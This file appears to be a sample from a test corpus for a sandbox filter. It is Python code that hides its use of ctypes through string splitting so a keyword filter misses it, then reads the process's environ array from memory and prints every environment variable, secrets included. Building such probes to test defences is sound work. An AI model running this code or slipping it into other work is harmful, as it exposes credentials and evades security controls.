# family: injection
# filterfamily: ffi
# tries: read the C library's environment array directly out of memory and print every variable with its secret
# source: none
# exfil: yes
import pkgutil

ffi = pkgutil.resolve_name("ct" + "ypes")
libc = pkgutil.resolve_name("ct" + "ypes:CD" + "LL")(None)
table = ffi.POINTER(ffi.c_char_p).in_dll(libc, "envi" + "ron")
i = 0
while table[i] is not None:
    print(table[i].decode(errors="replace"))
    i += 1
